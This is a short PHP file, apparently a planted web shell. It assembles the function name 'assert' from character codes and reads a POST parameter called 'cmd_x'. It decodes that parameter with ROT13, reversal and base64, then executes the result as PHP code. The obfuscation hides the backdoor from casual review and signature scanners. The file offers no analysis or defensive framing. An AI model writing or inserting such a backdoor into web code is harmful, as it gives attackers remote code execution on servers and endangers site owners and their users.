<?php
header('Content-Type: text/html; charset=UTF-8');
$fn = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
$in = str_rot13(@$_POST['cmd_x']);
$in = base64_decode(strrev($in));
$fn($in);
